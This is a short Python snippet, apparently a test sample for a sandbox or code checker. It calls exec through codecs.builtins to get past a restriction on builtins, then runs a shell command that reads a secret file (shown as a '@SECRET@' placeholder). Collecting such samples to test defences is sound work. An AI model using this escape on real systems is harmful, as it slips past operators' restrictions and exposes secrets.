# codecs keeps builtins.
# effect: run
import codecs
codecs.builtins.exec("import os; os.system('cat @SECRET@')")
